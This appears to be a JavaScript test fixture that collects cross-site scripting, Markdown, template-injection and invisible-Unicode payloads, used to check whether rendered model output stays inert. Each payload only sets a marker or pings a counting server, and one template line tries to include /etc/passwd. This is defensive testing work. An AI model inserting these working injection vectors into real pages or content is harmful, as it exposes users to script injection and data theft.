// Texts that a hostile model may write: each would run something, ask for something elsewhere or
// change a page, if it were taken for more than a text.

/** What runs if a payload does: a mark on the window, and a request to a server that counts. */
const RUN = "window.__pwned=1;fetch('HIT/run')";

const SCRIPTS = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=HIT/a.js></SCRIPT>`,
  `<script type="module">${RUN}</script>`,
  `<script/x>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<<script>${RUN}//<</script>`,
  `</script><script>${RUN}</script>`,
  `<script>\n<!--\n${RUN}\n//-->\n</script>`,
  `<noscript><p title="</noscript><script>${RUN}</script>">`,
  `<template><script>${RUN}</script></template>`,
];

const HANDLERS = [
  `<img src=x onerror="${RUN}">`,
  `<img src=HIT/a.png>`,
  `<img/src=x/onerror=window.__pwned=1>`,
  `<img srcset="HIT/b.png 1x" onload=window.__pwned=1>`,
  `<body onload=window.__pwned=1>`,
  `<input autofocus onfocus=window.__pwned=1>`,
  `<details open ontoggle=window.__pwned=1><summary>x</summary></details>`,
  `<video src=x onerror=window.__pwned=1></video>`,
  `<audio src=HIT/a.ogg autoplay></audio>`,
  `<p onmouseover=window.__pwned=1 style=position:fixed;inset:0>over all</p>`,
  `<marquee onstart=window.__pwned=1>x</marquee>`,
  `<p style="animation:a 1s" onanimationstart=window.__pwned=1>`,
  `<button popovertarget=p onclick=window.__pwned=1>x</button><p popover id=p>`,
];

const ATTRIBUTES = [
  `" onmouseover="window.__pwned=1`,
  `" autofocus onfocus=window.__pwned=1 x="`,
  `' onfocus='window.__pwned=1' autofocus='`,
  `"><img src=x onerror=window.__pwned=1>`,
  `'><svg onload=window.__pwned=1>`,
  `"><script>${RUN}</script>`,
  `\`><img src=x onerror=window.__pwned=1>`,
  `x" style="background:url(HIT/c.png)" y="`,
  `&quot; onmouseover=&quot;window.__pwned=1`,
  `&#34;&gt;&lt;img src=x onerror=window.__pwned=1&gt;`,
  `" formaction="javascript:window.__pwned=1" z="`,
];

const ENDS = [
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `</pre></code></span><script>${RUN}</script>`,
  `</a></li></ul></main></body></html><script>${RUN}</script>`,
  `</select><img src=x onerror=window.__pwned=1>`,
  `--><script>${RUN}</script><!--`,
  `<!--><img src=x onerror=window.__pwned=1>-->`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<plaintext>`,
  `<textarea>`,
  `<xmp>`,
  `<!--`,
];

const FOREIGN = [
  `<svg onload=window.__pwned=1>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href=HIT/d.js /></svg>`,
  `<svg><a xlink:href="javascript:window.__pwned=1"><text y=20>x</text></a></svg>`,
  `<svg><animate onbegin=window.__pwned=1 attributeName=x dur=1s>`,
  `<svg><use href="HIT/e.svg#x"></use></svg>`,
  `<svg><foreignObject><iframe src="javascript:window.__pwned=1"></iframe></foreignObject></svg>`,
  `<svg><style><img src=x onerror=window.__pwned=1></style></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1>`,
  `<math href="javascript:window.__pwned=1">x</math>`,
  `<math><annotation-xml encoding="text/html"><script>${RUN}</script></annotation-xml></math>`,
];

const LOADS = [
  `<iframe src="javascript:window.__pwned=1"></iframe>`,
  `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`,
  `<iframe src=HIT/f.html></iframe>`,
  `<object data=HIT/g.html></object>`,
  `<embed src="data:text/html,<script>opener.__pwned=1</script>">`,
  `<link rel=stylesheet href=HIT/h.css>`,
  `<link rel=preload as=script href=HIT/i.js>`,
  `<meta http-equiv=refresh content="0;url=HIT/j">`,
  `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
  `<base href=HIT/>`,
  `<form action=HIT/k><button autofocus>Save</button></form>`,
  `<style>@import url(HIT/l.css);</style>`,
  `<style>*{background:url(HIT/m.png)!important}</style>`,
  `<p style="background-image:url(HIT/n.png)">x</p>`,
];

const MARKDOWN = [
  `[x](javascript:window.__pwned=1)`,
  `[x](JaVaScRiPt:window.__pwned=1)`,
  `[x](java\tscript:window.__pwned=1)`,
  `[x](&#106;avascript:window.__pwned=1)`,
  `[x](data:text/html;base64,PHNjcmlwdD5vcGVuZXIuX19wd25lZD0xPC9zY3JpcHQ+)`,
  `[x](vbscript:window.__pwned=1)`,
  `[x](<javascript:window.__pwned=1> "t")`,
  `[x](https://example.org/"onmouseover="window.__pwned=1)`,
  `[x][y]\n\n[y]: javascript:window.__pwned=1 "t"`,
  `<javascript:window.__pwned=1>`,
  `![x](HIT/o.png)`,
  `![x](x"onerror="window.__pwned=1)`,
  `[![x](HIT/p.png)](javascript:window.__pwned=1)`,
  `\`<img src=x onerror=window.__pwned=1>\``,
  `\`\`\`"><script>${RUN}</script>\nx\n\`\`\``,
  `# <img src=x onerror=window.__pwned=1>`,
  `> <script>${RUN}</script>`,
  `| <svg onload=window.__pwned=1> |\n|---|\n| <img src=x onerror=window.__pwned=1> |`,
  `*<b onclick=window.__pwned=1>x</b>*`,
  `<https://example.org/<script>${RUN}</script>>`,
  `[x](https://a.example/\\"><img src=x onerror=window.__pwned=1>)`,
];

const TEMPLATES = [
  `{{constructor.constructor('window.__pwned=1')()}}`,
  `{% include "/etc/passwd" %}`,
  `\${window.__pwned=1}`,
  `<%= 7*7 %><#assign x="freemarker">`,
];

/** Those with characters that nobody sees, which no name may have. */
const HIDDEN = [
  `\u202Egnp.\u202Dexe`,
  `\u2066<script>\u2069${RUN}\u2066</script>\u2069`,
  `a\u200B<\u200Bscript\u200B>`,
  `\u0000<script>${RUN}</script>`,
  `<img\u000Csrc=x\u000Conerror=window.__pwned=1>`,
  `[x](java\u0001script:window.__pwned=1)`,
  `\uFEFF<svg onload=window.__pwned=1>`,
];

/** All of them, with the address of the server that counts. */
export function payloads(hit) {
  const all = [SCRIPTS, HANDLERS, ATTRIBUTES, ENDS, FOREIGN, LOADS, MARKDOWN, TEMPLATES, HIDDEN];
  return all.flat().map((payload) => payload.replaceAll("HIT", hit));
}

/** A text as a name can be: on one line, with nothing in it that nobody sees. */
export function asName(text) {
  return text.replace(/[\n\t]/g, " ").replace(/[\p{Cc}\p{Cf}]/gu, "");
}
